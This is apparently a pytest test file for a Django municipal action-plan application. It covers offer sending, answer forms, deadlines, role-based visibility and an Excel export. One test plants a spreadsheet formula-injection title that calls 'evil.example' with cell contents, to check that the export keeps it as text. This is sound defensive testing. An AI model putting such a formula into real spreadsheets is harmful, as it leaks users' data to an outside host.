"""The offer pages: sending, the answer form, a late answer, the matrix per role."""

import io
from datetime import timedelta

import pytest
from django.core import mail
from openpyxl import load_workbook

from actionplans import tasks
from actionplans.models import ActionPlan, Offer, Participation
from portal.dates import today
from portal.models import User
from tests.factories import activities_make, municipalities_make


@pytest.fixture
def published_plan(programme):
    activities_make(programme)
    return programme.published_plan


@pytest.fixture
def contacts(programme) -> list[User]:
    """The contacts of three municipalities: Norrby's, Söderby's and the programme's own."""
    return [*municipalities_make(programme, "Norrby", "Söderby"), programme.contact]


def _send(client, programme, plan, contacts, deadline_days=10):
    client.force_login(programme.coordinator)
    activities = list(plan.activities.order_by("pk").values_list("pk", flat=True)[:2])
    organisations = [contact.organisation_id for contact in contacts]
    response = client.post(
        f"/planarbete/{plan.pk}/nytt-erbjudande/",
        {
            "title": "Erbjudande om deltagande 2023",
            "text": "Anmäl er senast sista svarsdag.",
            "deadline": (today() + timedelta(days=deadline_days)).isoformat(),
            "reminder_days": "7",
            "activities": activities,
            "organisations": organisations,
        },
    )
    return response


def _answer_data(offer, **answers):
    data = {}
    for index, activity in enumerate(offer.activities.order_by("pk")):
        data[f"a{activity.pk}-answer"] = answers.get(f"a{index}", "")
        data[f"a{activity.pk}-contact"] = "Anna Andersson" if answers.get(f"a{index}") else ""
        data[f"a{activity.pk}-comment"] = ""
    return data


def test_send_answer_and_see_the_matrix(
    client, programme, published_plan, contacts, django_capture_on_commit_callbacks
):
    norrby, soderby, _own = contacts
    with django_capture_on_commit_callbacks() as callbacks:
        response = _send(client, programme, published_plan, contacts)
    offer = Offer.objects.get(plan=published_plan)
    assert response["Location"] == offer.get_absolute_url()
    assert len(callbacks) == 1  # the mails are queued for the worker once the offer is saved
    tasks.send_offer_mails(offer.pk)  # what the worker runs
    assert len(mail.outbox) == 3  # the three municipalities each have a contact

    client.force_login(norrby)
    page = client.get(f"/erbjudanden/{offer.pk}/svara/")
    assert page.status_code == 200 and norrby.organisation.name in page.content.decode()
    client.post(f"/erbjudanden/{offer.pk}/svara/", _answer_data(offer, a0="yes", a1="no"))
    client.force_login(soderby)
    client.post(f"/erbjudanden/{offer.pk}/svara/", _answer_data(offer, a0="yes"))
    assert Participation.objects.filter(offer=offer, answer="yes").count() == 2

    client.force_login(programme.coordinator)
    html = client.get(offer.get_absolute_url()).content.decode()
    assert norrby.organisation.name in html and soderby.organisation.name in html
    assert "2 av 3" in html or "2 of 3" in html  # organisations that have answered
    export = client.get(f"/erbjudanden/{offer.pk}/export.xlsx")
    assert export.status_code == 200


def test_a_late_answer_is_refused_with_a_clear_message(client, programme, published_plan, contacts):
    _send(client, programme, published_plan, contacts)
    offer = Offer.objects.get(plan=published_plan)
    Offer.objects.filter(pk=offer.pk).update(deadline=today() - timedelta(days=1))
    client.force_login(contacts[0])
    response = client.post(f"/erbjudanden/{offer.pk}/svara/", _answer_data(offer, a0="yes"))
    html = response.content.decode()
    assert response.status_code == 200
    assert 'role="alert"' in html
    assert "Sista svarsdag var" in html or "The deadline was" in html
    assert not Participation.objects.filter(offer=offer).exists()


def test_contacts_see_totals_until_the_plan_is_published(
    client, programme, published_plan, contacts
):
    norrby, soderby, _own = contacts
    _send(client, programme, published_plan, contacts)
    offer = Offer.objects.get(plan=published_plan)
    client.force_login(soderby)
    client.post(f"/erbjudanden/{offer.pk}/svara/", _answer_data(offer, a0="yes"), follow=True)
    ActionPlan.objects.filter(pk=published_plan.pk).update(state=ActionPlan.State.APPROVED)
    client.force_login(norrby)
    html = client.get(offer.get_absolute_url()).content.decode()
    assert soderby.organisation.name not in html  # not by name
    assert "1 deltar" in html or "1 take part" in html  # but in the totals
    assert client.get(f"/erbjudanden/{offer.pk}/export.xlsx").status_code == 403
    ActionPlan.objects.filter(pk=published_plan.pk).update(state=ActionPlan.State.PUBLISHED)
    assert soderby.organisation.name in client.get(offer.get_absolute_url()).content.decode()


def test_commitments_page(client, programme, published_plan, contacts):
    norrby = contacts[0]
    _send(client, programme, published_plan, contacts)
    offer = Offer.objects.get(plan=published_plan)
    client.force_login(norrby)
    client.post(f"/erbjudanden/{offer.pk}/svara/", _answer_data(offer, a0="yes"))
    client.logout()
    html = client.get(f"/organisationer/{norrby.organisation.slug}/atagande/").content.decode()
    assert offer.activities.order_by("pk").first().title in html


def test_a_contact_cannot_answer_for_another_organisation_through_the_url(
    client, programme, published_plan, contacts
):
    """Norrby's contact cannot change another municipality's answers in the offer."""
    norrby, _soderby, other = contacts
    _send(client, programme, published_plan, contacts)
    offer = Offer.objects.get(plan=published_plan)
    client.force_login(other)
    client.post(f"/erbjudanden/{offer.pk}/svara/", _answer_data(offer, a0="yes", a1="no"))
    others = Participation.objects.filter(offer=offer, organisation=other.organisation)
    before = list(others.order_by("pk").values_list("answer", flat=True))
    assert before == ["yes", "no"]
    client.force_login(norrby)
    data = {}
    for activity in offer.activities.all():
        data[f"a{activity.pk}-answer"] = "no"
        data[f"a{activity.pk}-contact"] = ""
        data[f"a{activity.pk}-comment"] = ""
    client.post(f"/erbjudanden/{offer.pk}/svara/?organisation={other.organisation.slug}", data)
    after = list(others.order_by("pk").values_list("answer", flat=True))
    assert after == before
    # What was posted became Norrby's own answers.
    own = Participation.objects.filter(offer=offer, organisation=norrby.organisation)
    assert own.count() == offer.activities.count()


def test_the_export_keeps_a_title_that_starts_like_a_formula_as_text(
    client, programme, published_plan, contacts
):
    _send(client, programme, published_plan, contacts)
    offer = Offer.objects.get(plan=published_plan)
    activity = offer.activities.order_by("pk").first()
    activity.title = '=HYPERLINK("http://evil.example/?"&A1;"Klicka här")'
    activity.save()
    client.force_login(programme.coordinator)
    export = client.get(f"/erbjudanden/{offer.pk}/export.xlsx")
    sheet = load_workbook(io.BytesIO(export.content))["Deltagande"]
    cell = next(c for (c,) in sheet.iter_rows(min_row=2, max_col=1) if c.value == activity.title)
    assert cell.data_type == "s"  # text, not the formula openpyxl would otherwise write


def test_the_matrix_shows_an_answer_the_moment_it_is_given(
    client, programme, published_plan, contacts
):
    """The matrix is kept per version of the answers: seen once, then answered, it shows the
    new answer at once, for the coordinator and in the contacts' totals."""
    norrby, _soderby, _own = contacts
    _send(client, programme, published_plan, contacts)
    offer = Offer.objects.get(plan=published_plan)
    client.force_login(programme.coordinator)
    before = client.get(offer.get_absolute_url()).content.decode()
    assert "0 av 3" in before
    client.force_login(norrby)
    client.post(f"/erbjudanden/{offer.pk}/svara/", _answer_data(offer, a0="yes"))
    client.force_login(programme.coordinator)
    after = client.get(offer.get_absolute_url()).content.decode()
    assert "1 av 3" in after
    assert 'class="answer answer-yes"' in after


def test_contacts_and_coordinators_do_not_share_a_kept_matrix(
    client, programme, published_plan, contacts
):
    norrby, _soderby, _own = contacts
    ActionPlan.objects.filter(pk=published_plan.pk).update(state=ActionPlan.State.APPROVED)
    _send(client, programme, published_plan, contacts)
    offer = Offer.objects.get(plan=published_plan)
    client.get(offer.get_absolute_url())  # the coordinator's view, with the names, is kept
    client.force_login(norrby)
    html = client.get(offer.get_absolute_url()).content.decode()
    assert "Söderby" not in html, "a contact sees totals only until the plan is published"
